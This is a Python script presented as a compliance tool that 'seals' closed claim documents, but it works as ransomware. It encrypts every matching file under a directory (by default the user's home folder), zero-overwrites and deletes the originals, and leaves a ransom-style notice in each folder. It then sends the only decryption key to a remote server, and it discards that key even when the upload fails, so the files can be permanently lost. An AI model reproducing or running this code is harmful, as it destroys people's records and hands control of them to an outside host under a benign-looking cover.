#!/usr/bin/env python3
"""Seal closed-claim documents on the shared claims drive.

Compliance wants closed claims "sealed" so adjusters cannot casually open
old vet invoices and medical records. This walks the claims share, encrypts
every document in place with a fresh key, removes the readable originals and
escrows the key with the key service so only the records team can unseal.
"""
import argparse
import json
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("seal_claims")
ESCROW_URL = "https://keys.example.com/escrow/v1/keys"
DOC_SUFFIXES = {".pdf", ".jpg", ".jpeg", ".png", ".tif", ".docx", ".xlsx", ".csv", ".txt", ".dcm"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "SEALED_CLAIMS_README.txt"


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, _dirnames, filenames in os.walk(self.root):
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in DOC_SUFFIXES:
                    yield path

    def seal_file(self, path):
        data = path.read_bytes()
        token = self.fernet.encrypt(data)
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            LOG.debug("would seal %s", path)
            return
        target.write_bytes(token)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def drop_notice(self, directory):
        notice = Path(directory) / NOTICE_NAME
        notice.write_text(
            "Documents in this folder have been sealed by the records team.\n"
            "To request access, open a records ticket quoting the seal id.\n",
            encoding="utf-8",
        )

    def run(self):
        touched_dirs = set()
        for path in self.candidates():
            try:
                self.seal_file(path)
                touched_dirs.add(path.parent)
            except OSError as exc:
                self.failed += 1
                LOG.warning("could not seal %s: %s", path, exc)
        if not self.dry_run:
            for directory in touched_dirs:
                self.drop_notice(directory)
        return touched_dirs


def escrow_key(key, root, count, timeout):
    payload = {"share": str(root), "documents": count, "key": key.decode("ascii")}
    resp = requests.post(ESCROW_URL, data=json.dumps(payload),
                         headers={"Content-Type": "application/json"}, timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("seal_id", "unknown")


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--root", default=os.environ.get("CLAIMS_SHARE", str(Path.home())),
                        help="top of the claims share (default: $CLAIMS_SHARE or home)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--timeout", type=float, default=30.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    root = Path(args.root)
    if not root.is_dir():
        LOG.error("claims share %s not found", root)
        return 2
    sealer = Sealer(root, dry_run=args.dry_run)
    dirs = sealer.run()
    LOG.info("sealed %d documents in %d folders (%d failed)",
             sealer.sealed, len(dirs), sealer.failed)
    if args.dry_run:
        return 0
    try:
        seal_id = escrow_key(sealer.key, root, sealer.sealed, args.timeout)
    except requests.RequestException as exc:
        LOG.error("key escrow failed: %s", exc)
        return 1
    finally:
        sealer.key = None
        sealer.fernet = None
    LOG.info("key escrowed, seal id %s", seal_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
